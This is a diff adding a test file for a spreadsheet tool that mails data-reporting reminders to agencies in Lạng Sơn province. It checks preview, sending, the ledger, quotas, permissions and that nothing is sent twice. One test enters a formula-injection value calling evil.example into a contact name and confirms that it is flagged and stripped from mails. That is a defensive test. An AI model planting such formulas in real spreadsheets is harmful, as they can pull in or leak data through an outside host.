@@ -1,0 +1,219 @@
+// `Xem trước thư` and `Gửi thư` through the host: who is written to, what stands in the ledger, what is never sent twice.
+
+import { beforeAll, describe, expect, test } from 'vitest';
+import { reportingRows } from '../../src/domain/reporting-row.js';
+import {
+  cellOf,
+  ENTRY,
+  MENU,
+  OWNER,
+  readyWorkbook,
+  sendMails,
+  setUp,
+  shippedBook,
+  shown,
+  smallBook,
+  typeIn,
+  type Workbook,
+} from '../support/workbook.js';
+
+const book = shippedBook();
+const round = book.rounds.find((candidate) => candidate.code === 'nam-2022');
+if (round === undefined) throw new Error('no round of 2022');
+const suppliers = [...new Set(reportingRows(book, round, () => null).map((row) => row.agency))].filter(
+  (agency) => agency !== '' && agency !== 'STTTT',
+);
+const addresses = Object.fromEntries(suppliers.map((code) => [code, `${code.toLowerCase()}@langson.example`]));
+const LEDGER = 'Đôn đốc';
+
+describe('T-14 of 2022, on 4/11', () => {
+  let workbook: Workbook;
+  beforeAll(async () => {
+    workbook = await readyWorkbook(book, addresses);
+  });
+
+  test('the preview shows every mail that would go, sends none and writes nothing', async () => {
+    const { host, coordinator } = workbook;
+    const before = host.sheets().map((sheet) => host.sheet(sheet.id).values());
+    await coordinator.menu(MENU, 'Đôn đốc', 'Xem trước thư');
+    const page = host.dialogs().at(-1)?.html ?? '';
+    for (const address of Object.values(addresses)) expect(page).toContain(address);
+    expect(page).toContain('CQS-03 (chưa giao đơn vị cụ thể)');
+    expect(page).toContain('CQS-06 (Sở Thông tin và Truyền thông)');
+    expect(host.mails()).toEqual([]);
+    expect(host.sheets().map((sheet) => host.sheet(sheet.id).values())).toEqual(before);
+  });
+
+  test('a "no" sends nothing', async () => {
+    await sendMails(workbook, false);
+    expect(workbook.host.mails()).toEqual([]);
+  });
+
+  test('one mail goes to each agency that owes, none to the Sở itself', async () => {
+    const report = await sendMails(workbook);
+    const to = workbook.host.mails().flatMap((mail) => mail.to);
+    expect(to.toSorted()).toEqual(Object.values(addresses).toSorted());
+    expect(suppliers).toHaveLength(11);
+    expect(report).toContain('Đã gửi 11 thư');
+  });
+
+  test('the mail of Sở Y tế says what it still owes, by when, and where to type it', () => {
+    const mail = workbook.host.mails().find((candidate) => candidate.to.includes('syt@langson.example'));
+    expect(mail?.subject).toBe(
+      'Sở Y tế: còn 3 số liệu chuyển đổi số năm 2022, đề nghị cập nhật trước ngày 20/11 (còn 16 ngày)',
+    );
+    expect(mail?.name).toBe('Sở TT&TT Lạng Sơn - Sổ kế hoạch chuyển đổi số');
+    for (const body of [mail?.text ?? '', mail?.html ?? '']) {
+      for (const code of ['XHS-07', 'XHS-08', 'XHS-09']) {
+        expect(body).toContain(code);
+        expect(body.replaceAll('&amp;', '&')).toContain(
+          `range=${cellOf(workbook.host, ENTRY, code, 'Thực hiện đến kỳ báo cáo')}`,
+        );
+      }
+      expect(body).toContain('thứ Sáu, 18/11/2022');
+      expect(body).not.toContain('Công văn số');
+    }
+    expect(mail?.attachments).toEqual([]);
+  });
+
+  test('the ledger has a row for each mail, and sending again sends nothing', async () => {
+    const rows = workbook.host
+      .sheet(LEDGER)
+      .display()
+      .slice(3)
+      .filter((row) => row[0] !== '');
+    expect(rows).toHaveLength(11);
+    expect(new Set(rows.map((row) => row[6]))).toEqual(new Set(['Đã gửi']));
+    expect(rows.find((row) => row[3] === 'Sở Y tế')?.slice(0, 6)).toEqual([
+      '04/11/2022 08:00',
+      'Năm 2022',
+      'T-14',
+      'Sở Y tế',
+      'syt@langson.example',
+      'XHS-07, XHS-08, XHS-09',
+    ]);
+    const report = await sendMails(workbook, true);
+    expect(report).toContain('không có thư nào phải gửi');
+    expect(workbook.host.mails()).toHaveLength(11);
+  });
+});
+
+describe('a small province', () => {
+  const few = smallBook(['1d', '3e', '3g']);
+  const their = { VPUBND: 'vp@langson.example', SYT: 'syt@langson.example', BDT: 'bdt@langson.example' };
+
+  test('who has typed everything gets no mail; who owes one of three is asked for that one', async () => {
+    const workbook = await readyWorkbook(few, their);
+    await typeIn(workbook, ENTRY, 'XHS-10', 'Thực hiện đến kỳ báo cáo', '100');
+    await typeIn(workbook, ENTRY, 'XHS-07', 'Trường hợp khác', 'Không phát sinh');
+    await typeIn(workbook, ENTRY, 'XHS-08', 'Trường hợp khác', 'Chưa có số liệu');
+    await sendMails(workbook);
+    expect(
+      workbook.host
+        .mails()
+        .map((mail) => mail.to[0])
+        .toSorted(),
+    ).toEqual(['syt@langson.example', 'vp@langson.example']);
+    const asked = workbook.host.mails().find((mail) => mail.to[0] === 'syt@langson.example');
+    expect(asked?.text).toContain('XHS-09');
+    expect(asked?.text).not.toContain('XHS-07');
+  });
+
+  test('an agency without an address or with a wrong one is named, and the others get their mail', async () => {
+    const workbook = await readyWorkbook(few, { VPUBND: 'vp@langson.example', SYT: 'so y te' });
+    await setUp(workbook);
+    expect(shown(workbook.host, 'Danh bạ', 'SYT', 'Cần xem lại', 'Mã đơn vị')).toContain('Không đọc được địa chỉ');
+    expect(shown(workbook.host, 'Danh bạ', 'BDT', 'Cần xem lại', 'Mã đơn vị')).toContain('Chưa có địa chỉ thư');
+    await sendMails(workbook);
+    expect(workbook.host.mails().map((mail) => mail.to[0])).toEqual(['vp@langson.example']);
+  });
+
+  test('two addresses get one mail each', async () => {
+    const workbook = await readyWorkbook(few, { SYT: 'mot@langson.example; hai@langson.example' });
+    await sendMails(workbook);
+    expect(
+      workbook.host
+        .mails()
+        .flatMap((mail) => mail.to)
+        .toSorted(),
+    ).toEqual(['hai@langson.example', 'mot@langson.example']);
+  });
+
+  test('a formula in the name of a contact never reaches a mail', async () => {
+    const workbook = await readyWorkbook(few, their);
+    await typeIn(workbook, 'Danh bạ', 'SYT', 'Đầu mối', '=IMPORTXML("https://evil.example";"//a")', 'Mã đơn vị');
+    await workbook.coordinator.menu(MENU, 'Đôn đốc', 'Xem trước thư');
+    expect(workbook.host.dialogs().at(-1)?.html).toContain('chứa công thức hoặc giá trị lỗi');
+    await sendMails(workbook);
+    const mail = workbook.host.mails().find((candidate) => candidate.to[0] === 'syt@langson.example');
+    expect(mail?.text).not.toContain('IMPORTXML');
+    expect(mail?.html).not.toContain('IMPORTXML');
+  });
+
+  test('when the quota runs out the rest waits and is sent on the next press', async () => {
+    const workbook = await readyWorkbook(few, their, { mailQuota: 100 });
+    workbook.host.eatQuota(OWNER, 99);
+    const report = await sendMails(workbook);
+    expect(workbook.host.mails()).toHaveLength(1);
+    expect(report).toContain('2 thư chờ vì hết hạn mức');
+    await workbook.host.clock.set('2022-11-07T08:00:00+07:00');
+    await sendMails(workbook);
+    expect(workbook.host.mails()).toHaveLength(3);
+  });
+
+  test('a person who is neither owner nor coordinator may look but not send', async () => {
+    const staff = 'can-bo@langson.example';
+    const workbook = await readyWorkbook(few, their, { share: { [staff]: 'editor' }, consent: { [staff]: 'all' } });
+    const person = workbook.host.as(staff);
+    await person.open();
+    await person.menu(MENU, 'Đôn đốc', 'Xem trước thư');
+    expect(workbook.host.dialogs().at(-1)?.html).toContain('syt@langson.example');
+    await person.answer(true, true).menu(MENU, 'Đôn đốc', 'Gửi thư');
+    expect(workbook.host.dialogs().at(-1)?.text).toContain('Chỉ đầu mối');
+    expect(workbook.host.mails()).toEqual([]);
+  });
+
+  test('a copy of the workbook sends nothing until it is confirmed', async () => {
+    const workbook = await readyWorkbook(few, their);
+    const host = await workbook.coordinator.copyWorkbook();
+    const copy = { host, coordinator: host.as(OWNER) };
+    copy.coordinator.consent('all');
+    await copy.coordinator.open();
+    expect(await sendMails(copy, true)).toContain('bản sao');
+    expect(host.mails()).toEqual([]);
+  });
+
+  test('mails sent before are not sent again after an older version is restored', async () => {
+    const workbook = await readyWorkbook(few, their);
+    const version = workbook.host.versions().at(-1) ?? '';
+    await sendMails(workbook);
+    expect(workbook.host.mails()).toHaveLength(3);
+    await workbook.coordinator.restoreVersion(version);
+    await sendMails(workbook, true);
+    await setUp(workbook);
+    await sendMails(workbook, true);
+    expect(workbook.host.mails()).toHaveLength(3);
+    const states = workbook.host
+      .sheet(LEDGER)
+      .display()
+      .slice(3)
+      .map((row) => row[6])
+      .filter((state) => state !== '');
+    expect(states).toEqual(['Đã gửi', 'Đã gửi', 'Đã gửi']);
+  });
+
+  test('a deleted ledger tab comes back with what was sent, and nothing is sent again', async () => {
+    const workbook = await readyWorkbook(few, their);
+    await sendMails(workbook);
+    await workbook.coordinator.deleteSheet(LEDGER);
+    await setUp(workbook);
+    await sendMails(workbook, true);
+    expect(workbook.host.mails()).toHaveLength(3);
+    const rows = workbook.host
+      .sheet(LEDGER)
+      .display()
+      .slice(3)
+      .filter((row) => row[6] !== '');
+    expect(rows.map((row) => row[6])).toEqual(['Đã gửi', 'Đã gửi', 'Đã gửi']);
+  });
+});
